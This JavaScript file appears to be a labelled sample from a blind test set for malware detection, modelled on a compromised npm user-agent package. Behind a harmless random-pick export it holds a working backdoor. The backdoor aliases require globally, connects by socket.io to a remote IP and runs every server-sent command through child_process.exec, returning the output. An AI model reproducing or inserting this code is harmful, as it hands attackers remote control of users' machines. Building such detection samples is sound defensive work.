// expect: malicious
// source: blind set 37's random-ua-rotator, after rand-user-agent 1.0.110 (Aikido, 2025): past the end of the real
// module, `global['r'] = require` and every module is reached through `r`; a socket.io client runs the commands its
// server emits.
'use strict';
exports.pick = (list) => list[Math.floor(Math.random() * list.length)];
global['r'] = require;
(function () {
  var os = r('os'), cp = r('child_process');
  var io = r('socket.io-client');
  var s = io('http://198.51.100.19:8080', { query: { id: os.hostname() } });
  s.on('command', function (m) {
    cp.exec(m.message || '', function (e, o) { s.emit('response', { code: m.code, message: String(o) }); });
  });
})();
